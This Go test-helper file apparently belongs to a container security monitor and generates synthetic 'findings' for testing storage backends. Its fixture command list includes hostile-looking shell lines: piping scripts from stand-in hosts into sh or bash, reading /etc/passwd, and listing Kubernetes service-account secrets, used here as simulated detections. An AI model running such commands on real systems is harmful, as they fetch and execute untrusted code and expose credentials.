// Package storetest holds what tests and benchmarks of store backends share:
// finding fixtures (small, hand-made ones and realistic ~1 KiB ones) and a
// conformance suite every store.Store implementation must pass.
package storetest

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/google/uuid"
	"google.golang.org/protobuf/types/known/timestamppb"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
)

// NewID returns a fresh UUIDv7 string, as agents assign them.
func NewID() string {
	id, err := uuid.NewV7()
	if err != nil {
		return uuid.NewString()
	}
	return id.String()
}

// Finding returns a minimal valid finding.
func Finding(t time.Time, node string, kind loupev1.Kind, sev loupev1.Severity) *loupev1.Finding {
	return &loupev1.Finding{
		Id:       NewID(),
		Time:     timestamppb.New(t),
		Node:     node,
		Kind:     kind,
		Severity: sev,
		Rule:     "test",
		Summary:  fmt.Sprintf("%s on %s", kind.ShortName(), node),
	}
}

var (
	namespaces = []string{"payments", "checkout", "default", "kube-system", "monitoring", "search", "auth", "ledger"}
	apps       = []string{"api", "worker", "frontend", "cache", "db-proxy", "scheduler", "exporter", "gateway"}
	images     = []string{
		"gcr.io/distroless/static-debian12:nonroot", "gcr.io/distroless/base-debian12", "gcr.io/distroless/java17-debian12",
		"cgr.dev/chainguard/python:latest", "docker.io/library/nginx:1.27", "docker.io/library/alpine:3.20",
		"registry.example.com/payments/api:v1.4.2", "registry.example.com/search/worker:2024.11",
	}
	shells  = []string{"/bin/sh", "/bin/bash", "/busybox/sh", "/bin/dash"}
	kinds   = []loupev1.Kind{loupev1.Kind_KIND_EXEC, loupev1.Kind_KIND_EXEC, loupev1.Kind_KIND_EXEC, loupev1.Kind_KIND_SHELL_EXEC, loupev1.Kind_KIND_EXEC_FAILED, loupev1.Kind_KIND_PACKAGE, loupev1.Kind_KIND_PACKAGE, loupev1.Kind_KIND_DRIFT_FILE, loupev1.Kind_KIND_RUNTIME_EXEC_FAILED, loupev1.Kind_KIND_SUID}
	cmdArgs = [][]string{
		{"-c", "wget -q -O- http://198.51.100.7/x.sh | sh"}, {"-c", "id; uname -a; cat /etc/passwd"},
		{"-c", "curl -fsSL https://example.invalid/install | bash"}, {"-c", "java -jar /app/app.jar --spring.profiles.active=prod"},
		{"-c", "python3 -m http.server 8080"}, {"-c", "ls -la /var/run/secrets/kubernetes.io/serviceaccount"},
	}
)

// Realistic returns a finding of about 1 KiB shaped like what agents send:
// a container reference with pod, namespace and image, and a process (exec
// kinds) or a file/package (inventory kinds). rng makes the stream
// reproducible; t is its time and node its node.
func Realistic(rng *rand.Rand, t time.Time, node string) *loupev1.Finding {
	ns := namespaces[rng.IntN(len(namespaces))]
	app := apps[rng.IntN(len(apps))]
	podN := rng.IntN(40)
	pod := fmt.Sprintf("%s-%x-%05d", app, 0x7d4f9c000+podN, podN)
	cid := hex.EncodeToString(sha256.New().Sum([]byte(pod + node)))[:64]
	img := images[rng.IntN(len(images))]
	kind := kinds[rng.IntN(len(kinds))]
	f := &loupev1.Finding{
		Id:       NewID(),
		Time:     timestamppb.New(t),
		Node:     node,
		Kind:     kind,
		Severity: loupev1.Severity(1 + rng.IntN(5)),
		Rule:     "loupe/" + kind.ShortName(),
		Container: &loupev1.ContainerRef{
			Id: cid, Name: app, Pod: pod, Namespace: ns,
			PodUid:           uuid.NewSHA1(uuid.NameSpaceOID, []byte(pod)).String(),
			Image:            img,
			ImageDigest:      "sha256:" + hex.EncodeToString(sha256.New().Sum([]byte(img)))[:64],
			RuntimeNamespace: "k8s.io",
		},
		AgentVersion: "v0.1.0",
		Details:      map[string]string{"cgroup": "/kubepods/burstable/pod" + pod, "profile": "distroless-static"},
	}
	switch kind {
	case loupev1.Kind_KIND_PACKAGE, loupev1.Kind_KIND_DRIFT_FILE, loupev1.Kind_KIND_SUID:
		name := fmt.Sprintf("lib%s%d", app, rng.IntN(300))
		sum := sha256.Sum256([]byte(name))
		f.File = &loupev1.File{Path: "/usr/lib/x86_64-linux-gnu/" + name + ".so.1", Layer: "sha256:" + hex.EncodeToString(sum[:]), Mode: 0o100755, Size: int64(rng.IntN(1 << 20)), Sha256: hex.EncodeToString(sum[:])}
		f.Package = &loupev1.Package{Name: name, Version: fmt.Sprintf("1.%d.%d-1", rng.IntN(20), rng.IntN(9)), Ecosystem: "deb", Purl: "pkg:deb/debian/" + name + "?arch=amd64&distro=debian-12", Path: "/var/lib/dpkg/status.d/" + name}
		f.Summary = fmt.Sprintf("%s %s in %s/%s (%s)", kind.ShortName(), name, ns, pod, img)
	default:
		sh := shells[rng.IntN(len(shells))]
		args := cmdArgs[rng.IntN(len(cmdArgs))]
		pid := int32(1000 + rng.IntN(60000))
		f.Process = &loupev1.Process{
			Pid: pid, Ppid: pid - 1, Uid: uint32(rng.IntN(2) * 65532), Comm: "sh", Filename: sh,
			Argv:      append([]string{sh}, args...),
			Ancestors: []*loupev1.Ancestor{{Pid: pid - 1, Comm: "java", Filename: "/usr/bin/java"}, {Pid: 1, Comm: "tini", Filename: "/tini"}},
			CgroupId:  uint64(rng.Int64N(1 << 40)), MntNs: 4026531840 + uint64(podN),
		}
		if kind == loupev1.Kind_KIND_EXEC_FAILED || kind == loupev1.Kind_KIND_RUNTIME_EXEC_FAILED {
			f.Process.Errno = 2
		}
		f.Summary = fmt.Sprintf("%s %q ran in pod %s/%s (parent java, image %s)", kind.ShortName(), sh+" "+args[len(args)-1], ns, pod, img)
	}
	return f
}
